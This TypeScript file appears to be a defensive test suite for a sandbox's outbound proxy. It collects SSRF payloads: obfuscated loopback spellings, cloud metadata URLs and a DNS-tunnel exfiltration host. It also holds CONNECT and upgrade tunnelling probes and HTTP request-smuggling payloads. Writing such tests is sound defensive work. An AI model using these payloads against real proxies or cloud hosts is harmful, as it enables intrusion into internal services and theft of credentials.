import type { Category, ProbeAttempt, Through } from '../attempt.ts';
import type { World } from '../world.ts';

const proxy = (name: string, ...send: string[]): ProbeAttempt => ({ name, probe: { kind: 'proxy', send }, through: success });
/** The proxy may well answer this one; the bait decides alone. */
const answered = (name: string, ...send: string[]): ProbeAttempt => ({ name, probe: { kind: 'proxy', send } });

function success({ text }: { text: string }): Through {
  return /HTTP\/1\.[01] 2\d\d[^\r\n]*/.exec(text)?.[0] ?? null;
}

/** What a service saw of this try must be one request; the one inside it is only ever seen as another. */
const smuggled = (_reply: unknown, world: World, token: string): Through => {
  const hidden = world.bait.served.find(({ url, method }) => url.includes(`smuggled/${token}`) || method === 'SMUGGLED');
  return hidden ? `a service got ${hidden.method} ${hidden.url}` : null;
};
const smuggle = (name: string, ...send: string[]): ProbeAttempt => ({ name, probe: { kind: 'proxy', send }, through: smuggled });

/** Headers by which a server takes another method or path than it was asked with. */
const overridden = (_reply: unknown, { bait }: World, token: string): Through => {
  const served = bait.served.find(({ url }) => url.includes(token));
  const names = Object.keys(served?.headers ?? {}).filter((name) => /^x[-_](http|method|original|rewrite)/.test(name));
  return names.length > 0 ? `a service got ${names.join(', ')}` : null;
};

const get = (url: string, ...headers: string[]) => `GET ${url} HTTP/1.1\r\n${['Host: x', ...headers].join('\r\n')}\r\n\r\n`;
const connect = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
const GIT = 'http://git.warren.internal';
const post = (headers: string[], body: string) =>
  `POST ${GIT}/{token} HTTP/1.1\r\nHost: git.warren.internal\r\n${headers.join('\r\n')}\r\n\r\n${body}`;
const SMUGGLED = 'GET /smuggled/{token} HTTP/1.1\r\nHost: localhost:{bait}\r\nAuthorization: Bearer mine\r\n\r\n';
const NPM = 'http://npm.warren.internal';
/** Node frames no body of these by itself. */
const BARE = ['GET', 'HEAD', 'DELETE', 'OPTIONS'];
/** A whole request as a body that the machine frames well: where it ends is for the proxy to say again. */
const INNER = 'GET /smuggled/{token} HTTP/1.1\r\nHost: localhost\r\n\r\n';
/** `{token}` becomes a word of this length (World.newToken). */
const INNER_BYTES = INNER.length - '{token}'.length + 17;
const framed = (method: string, url: string, headers: string, body: string) =>
  `${method} ${url}/{token} HTTP/1.1\r\nHost: x\r\n${headers}\r\n\r\n${body}`;
const inChunks = (method: string, url: string) =>
  framed(method, url, 'Transfer-Encoding: chunked', `${INNER_BYTES.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`);
const withLength = (method: string, url: string) =>
  framed(method, url, `Connection: Content-Length\r\nContent-Length: ${INNER_BYTES}`, INNER);

const utf8 = (text: string) => Buffer.from(text, 'utf8').toString('latin1');
/** Where the listener is, as it would be asked for. */
const at = (host: string) => get(`http://${host}:{bait}/{token}`);

const HOSTS: [name: string, host: string][] = [
  ['loopback', '127.0.0.1'],
  ['loopback, short', '127.1'],
  ['loopback, hexadecimal', '0x7f000001'],
  ['loopback, decimal', '2130706433'],
  ['loopback, octal', '0177.0.0.1'],
  ['all addresses', '0.0.0.0'],
  ['loopback, IPv6', '[::1]'],
  ['loopback, IPv6-mapped', '[::ffff:127.0.0.1]'],
  ['loopback, IPv6-mapped hexadecimal', '[::ffff:7f00:1]'],
  ['loopback with a zone', '[::1%25lo]'],
  ['the host’s address', '{lan}'],
  ['the host’s own name, although listed', '{hostname}'],
  ['localhost, although listed', 'localhost'],
  ['localhost with a trailing dot', 'localhost.'],
  ['localhost in capitals', 'LocalHost'],
  ['ip6-localhost, although listed', 'ip6-localhost'],
  ['localhost in full-width letters', utf8('ｌｏｃａｌｈｏｓｔ')],
  ['localhost in circled letters', utf8('ⓛⓞⓒⓐⓛⓗⓞⓢⓣ')],
  ['localhost with a soft hyphen', utf8('local\u00adhost')],
  ['localhost percent-encoded', '%6cocalhost'],
  ['localhost as punycode', 'xn--localhost-'],
  ['localhost before a NUL', 'localhost%00.git.warren.internal'],
  ['a name under localhost', 'a.localhost'],
  ['a service’s name as user', 'git.warren.internal@localhost'],
  ['a service and port as user and password', 'git.warren.internal:80@localhost'],
  ['a service’s name before a backslash', 'git.warren.internal\\@localhost'],
];

const ELSEWHERE: [name: string, url: string][] = [
  ['the metadata address', 'http://169.254.169.254/latest/meta-data/'],
  ['the metadata name', 'http://metadata.google.internal/computeMetadata/v1/'],
  ['the metadata address, IPv6', 'http://[fd00:ec2::254]/latest/meta-data/'],
  ['the metadata address, decimal', 'http://2852039166/'],
  ['hostd', 'http://localhost:{hostd}/v1/host'],
  ['hostd by address', 'http://127.0.0.1:{hostd}/v1/machines'],
  ['PostgreSQL', 'http://localhost:5432/'],
  ['a carrier-grade address', 'http://100.100.100.200/'],
  ['a private address', 'http://10.0.0.1/'],
  ['a broadcast address', 'http://255.255.255.255/'],
  ['a name that hides data for a name server', 'http://{token}.tunnel.example.net/'],
  ['another scheme: https', 'https://localhost:{bait}/{token}'],
  ['another scheme: file', 'file://{file}'],
  ['another scheme: ftp', 'ftp://localhost:{bait}/{token}'],
  ['another scheme: unix', 'http+unix://%2ftmp%2fwarren/{token}'],
  ['another scheme: gopher', 'gopher://localhost:{bait}/_{token}'],
  ['a port beyond the last', 'http://localhost:{bait}0000/{token}'],
  ['a service on another port', 'http://git.warren.internal:{bait}/{token}'],
];

export const addresses: Category = {
  name: 'proxy: addresses',
  about: 'every spelling of loopback, host, private and metadata addresses, other schemes and ports',
  attempts: [
    ...HOSTS.map(([name, host]) => proxy(name, at(host))),
    ...ELSEWHERE.map(([name, url]) => proxy(name, get(url, 'Metadata-Flavor: Google'))),
  ],
  controls: [
    {
      name: 'a service that the machine may use',
      probe: { kind: 'proxy', send: [get(`${GIT}/{token}`)] },
      through: success,
    },
  ],
};

export const tunnels: Category = {
  name: 'proxy: tunnels',
  about: 'CONNECT to addresses and ports, CONNECT in CONNECT, upgrades, other protocols on the proxy’s port',
  attempts: [
    proxy('CONNECT to loopback', connect('127.0.0.1:{bait}'), get('/{token}')),
    proxy('CONNECT to localhost, although listed', connect('localhost:{bait}'), get('/{token}')),
    proxy('CONNECT to the host’s address', connect('{lan}:{bait}'), get('/{token}')),
    proxy('CONNECT to loopback, IPv6-mapped', connect('[::ffff:127.0.0.1]:{bait}'), get('/{token}')),
    proxy('CONNECT to the host’s name', connect('{hostname}:{bait}'), get('/{token}')),
    proxy('CONNECT to hostd', connect('localhost:{hostd}'), get('/v1/host')),
    proxy('CONNECT to SSH of a listed host', connect('api.example.com:22')),
    proxy('CONNECT to mail of a listed host', connect('api.example.com:25')),
    proxy('CONNECT to a host that is not listed', connect('example.org:443')),
    proxy('CONNECT to a service on 443', connect('git.warren.internal:443')),
    proxy('CONNECT without a port', connect('localhost')),
    proxy('CONNECT with a user', connect('git.warren.internal@localhost:{bait}'), get('/{token}')),
    proxy('CONNECT with a path', connect('localhost:{bait}/x'), get('/{token}')),
    proxy('CONNECT to port 0', connect('localhost:0')),
    answered('CONNECT in a tunnel to a service', connect('git.warren.internal:80'), connect('localhost:{bait}'), get('/{token}')),
    answered('an absolute address in a tunnel to a service', connect('git.warren.internal:80'), at('localhost')),
    answered(
      'a tunnel to a service under another Host',
      connect('git.warren.internal:80'),
      'GET /{token} HTTP/1.1\r\nHost: localhost:{bait}\r\n\r\n',
    ),
    answered(
      'two hundred tunnels in one another',
      connect('git.warren.internal:80').repeat(200),
      connect('localhost:{bait}'),
      get('/{token}'),
    ),
    proxy('WebSocket to localhost', get('http://localhost:{bait}/{token}', 'Connection: Upgrade', 'Upgrade: websocket')),
    proxy(
      'WebSocket to a service',
      get(`${GIT}/{token}`, 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'),
    ),
    answered(
      'an upgrade to HTTP/2 with a request behind it',
      get(`${GIT}/{token}`, 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk') + at('localhost'),
    ),
    proxy('HTTP/2 at once', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00'),
    proxy('SOCKS 5', '\x05\x01\x00', '\x05\x01\x00\x03\x09localhost\x1f\x90{token}'),
    proxy('SOCKS 4a', '\x04\x01\x1f\x90\x00\x00\x00\x01\x00localhost\x00{token}'),
    proxy('TLS to the proxy', '\x16\x03\x01\x00\x2e\x01\x00\x00\x2a\x03\x03{token}'),
    proxy('the PROXY protocol', `PROXY TCP4 127.0.0.1 127.0.0.1 1 {bait}\r\n${at('localhost')}`),
  ],
  controls: [
    {
      name: 'a tunnel to a service that the machine may use',
      probe: { kind: 'proxy', send: [connect('git.warren.internal:80'), get('/{token}')] },
      through: success,
    },
  ],
};

export const requests: Category = {
  name: 'proxy: requests',
  about: 'request smuggling, Host and request line at odds, headers that are malformed, too large or too many',
  attempts: [
    proxy('a relative path with another Host', 'GET /{token} HTTP/1.1\r\nHost: localhost:{bait}\r\n\r\n'),
    answered('an absolute address with another Host', `GET ${GIT}/{token} HTTP/1.1\r\nHost: localhost:{bait}\r\n\r\n`),
    answered('two Hosts', `GET ${GIT}/{token} HTTP/1.1\r\nHost: git.warren.internal\r\nHost: localhost:{bait}\r\n\r\n`),
    answered('X-Forwarded-Host', get(`${GIT}/{token}`, 'X-Forwarded-Host: localhost:{bait}', 'Forwarded: host=localhost:{bait}')),
    answered('a redirect to the host', get(`${GIT}/redirect/{token}`)),
    smuggle('length and chunks', post(['Content-Length: 6', 'Transfer-Encoding: chunked'], `0\r\n\r\n${SMUGGLED}`)),
    smuggle('chunks twice', post(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], `0\r\n\r\n${SMUGGLED}`)),
    smuggle('chunks, spelled oddly', post(['Transfer-Encoding: xchunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('chunks behind a tab', post(['Transfer-Encoding:\tchunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('chunks with a space before the colon', post(['Transfer-Encoding : chunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('two lengths', post(['Content-Length: 0', 'Content-Length: 5'], SMUGGLED)),
    smuggle('a list of lengths', post(['Content-Length: 0, 5'], SMUGGLED)),
    smuggle('a negative length', post(['Content-Length: -1'], SMUGGLED)),
    smuggle('a length with a sign', post(['Content-Length: +0'], SMUGGLED)),
    smuggle('a folded header', post(['X-A: b', ' Transfer-Encoding: chunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('a bare line feed', post(['X-A: b\nTransfer-Encoding: chunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('a bare carriage return', post(['X-A: b\rTransfer-Encoding: chunked', 'Content-Length: 0'], SMUGGLED)),
    smuggle('a NUL in a header', post(['X-A: b\x00c', 'Content-Length: 0'], SMUGGLED)),
    smuggle('a length hidden by Connection', post(['Connection: Content-Length', 'Content-Length: 3'], `abc${SMUGGLED}`)),
    ...BARE.flatMap((method) => [
      smuggle(`${method} with a request in chunks`, inChunks(method, GIT)),
      smuggle(`${method} with a request whose length Connection hides`, withLength(method, GIT)),
    ]),
    proxy('a body in chunks to the registry', inChunks('GET', NPM)),
    proxy('a body to the registry whose length Connection hides', withLength('GET', NPM)),
    smuggle('a chunk with a wrong size', post(['Transfer-Encoding: chunked'], `1\r\nabcdef\r\n0\r\n\r\n${SMUGGLED}`)),
    smuggle(
      'a chunk of overflowing size',
      post(['Transfer-Encoding: chunked'], `fffffffffffffffff\r\na\r\n0\r\n\r\n${SMUGGLED}`),
    ),
    smuggle('a request in a request’s line', `GET ${GIT}/a HTTP/1.1\r\nSMUGGLED /{token} HTTP/1.1\r\n\r\n`),
    smuggle('line ends in the path, encoded', get(`${GIT}/{token}%0d%0aSMUGGLED%20/%20HTTP/1.1%0d%0a`)),
    proxy('a header of 100 KiB', get('http://localhost:{bait}/{token}', `X-A: ${'a'.repeat(102_400)}`)),
    proxy(
      'five thousand headers',
      get('http://localhost:{bait}/{token}', ...Array.from({ length: 5000 }, (_, at) => `X-${at}: a`)),
    ),
    proxy('an address of 100 KiB', get(`${GIT}/${'a'.repeat(102_400)}`)),
    proxy('a body beyond the cap', post(['Content-Length: 99999999999'], 'x')),
    proxy('HTTP/0.9', 'GET http://localhost:{bait}/{token}\r\n\r\n'),
    proxy('TRACE', 'TRACE http://localhost:{bait}/{token} HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n\r\n'),
    proxy('TRACE to a service', `TRACE ${GIT}/{token} HTTP/1.1\r\nHost: x\r\n\r\n`),
    {
      name: 'headers that name another method and path to a service',
      probe: {
        kind: 'proxy',
        send: [get(`${GIT}/{token}`, 'X-HTTP-Method-Override: DELETE', 'X_HTTP_Method: DELETE', 'X-Original-URL: /admin')],
      },
      through: overridden,
    },
    proxy('a method with a line end', 'GE\nT http://localhost:{bait}/{token} HTTP/1.1\r\nHost: x\r\n\r\n'),
  ],
  controls: [
    {
      name: 'the first of two requests on one connection, and the second',
      probe: { kind: 'proxy', send: [get(`${GIT}/{token}`) + get(`${GIT}/{token}`)] },
      through: ({ text }) => (text.match(/served GET/g)?.length === 2 ? 'both were served' : null),
    },
    {
      name: 'a second request that is one, seen as smuggled ones would be',
      probe: { kind: 'proxy', send: [get(`${GIT}/{token}`) + get(`${GIT}/smuggled/{token}`)] },
      through: smuggled,
    },
    {
      name: 'a body in chunks that a service takes',
      probe: { kind: 'proxy', send: [inChunks('POST', GIT)] },
      through: success,
    },
  ],
};
